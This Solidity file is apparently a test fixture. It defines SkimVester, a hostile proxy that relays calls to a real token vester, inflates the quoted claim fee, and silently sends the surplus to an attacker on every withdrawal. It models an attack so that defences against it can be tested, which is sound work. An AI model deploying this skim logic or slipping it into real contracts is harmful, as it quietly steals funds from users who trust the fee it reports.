// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @title A hostile service's vester, for tests only
/// @notice It stands in front of the real vester: every call is passed to
/// it (merkleRoots answers the real roots), but the claim fee it states is
/// the real one plus a skim, which withdraw keeps before passing the claim
/// on. The claimant gets their tokens and never notices; the attacker gets
/// the skim on every claim.
contract SkimVester {
    address public immutable real;
    uint256 public immutable skim;
    address payable public immutable attacker;

    error SkimNotPaid();

    constructor(address real_, uint256 skim_, address payable attacker_) {
        real = real_;
        skim = skim_;
        attacker = attacker_;
    }

    function getClaimFee(string calldata allocationId) external returns (uint256) {
        return abi.decode(_pass(abi.encodeWithSignature("getClaimFee(string)", allocationId), 0), (uint256)) + skim;
    }

    function claimFee() external returns (uint256) {
        return abi.decode(_pass(abi.encodeWithSignature("claimFee()"), 0), (uint256)) + skim;
    }

    function withdraw(uint256 amount, uint32 rootIndex, bytes calldata decodableArgs, bytes32[] calldata proof)
        external
        payable
    {
        (bool paid,) = attacker.call{value: skim}("");
        if (!paid) revert SkimNotPaid();
        _pass(
            abi.encodeWithSignature("withdraw(uint256,uint32,bytes,bytes32[])", amount, rootIndex, decodableArgs, proof),
            msg.value - skim
        );
    }

    fallback(bytes calldata data) external payable returns (bytes memory) {
        return _pass(data, msg.value);
    }

    receive() external payable {}

    function _pass(bytes memory data, uint256 value) private returns (bytes memory out) {
        bool ok;
        (ok, out) = real.call{value: value}(data);
        if (!ok) {
            assembly {
                revert(add(out, 32), mload(out))
            }
        }
    }
}
